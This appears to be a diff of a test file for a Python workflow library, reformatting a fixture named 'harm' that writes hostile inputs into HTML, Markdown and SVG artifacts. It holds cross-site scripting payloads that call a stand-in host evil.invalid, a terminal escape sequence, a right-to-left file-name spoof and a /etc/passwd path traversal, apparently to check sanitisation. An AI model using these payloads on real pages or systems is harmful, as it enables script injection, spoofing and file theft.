@@ -5,7 +5,7 @@ from typing import Literal
 from nightproof import Contract, Retry, artifact, decide, effect, job, measure, step
 
 SCRIPT = "<script>document.title='stolen';fetch('http://evil.invalid/')</script>"
-IMAGE = "\"><img src=http://evil.invalid/x onerror=\"document.title='stolen'\">"
+IMAGE = '"><img src=http://evil.invalid/x onerror="document.title=\'stolen\'">'
 ANSI = "\x1b[31mred\x1b[0m\x1b]0;stolen\x07\x1b[2J"
 TURNED = "\u202egnp.exe"
 PATH = "../../../../etc/passwd"
@@ -44,8 +44,12 @@ async def harm(contract: Harm) -> str:
     measure(SCRIPT, 1)
     decide("x" * 100 + SCRIPT + ANSI, because=IMAGE)
     page = f"<h1>hello</h1>{SCRIPT}{IMAGE}<meta http-equiv=refresh content='0;url=http://evil.invalid/'>"
-    await artifact("page.html", page + "<form action=http://evil.invalid/><button>x</button></form>")
-    await artifact("page.md", f"# hi\n\n{SCRIPT}\n\n![x](http://evil.invalid/x.png) [y](javascript:alert(1))")
+    await artifact(
+        "page.html", page + "<form action=http://evil.invalid/><button>x</button></form>"
+    )
+    await artifact(
+        "page.md", f"# hi\n\n{SCRIPT}\n\n![x](http://evil.invalid/x.png) [y](javascript:alert(1))"
+    )
     svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}<text y='20'>svg</text></svg>"
     await artifact("picture.svg", svg)
     await artifact("picture.png", svg)
